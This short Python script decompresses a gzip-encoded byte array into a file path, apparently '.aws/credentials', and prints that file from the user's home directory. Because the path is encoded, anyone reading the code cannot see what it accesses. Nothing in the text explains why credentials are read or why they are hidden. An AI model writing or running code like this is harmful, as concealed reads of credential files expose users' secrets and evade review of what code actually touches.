import gzip
from pathlib import Path

BLOB = bytes([31, 139, 8, 0, 0, 0, 0, 0, 2, 3, 211, 75, 44, 47, 214, 79, 46, 74, 77, 73, 205, 43, 201, 76, 204, 41, 6, 0, 44, 140, 120, 83, 16, 0, 0, 0])

rel = gzip.decompress(BLOB).decode()
print((Path.home() / rel).read_text())
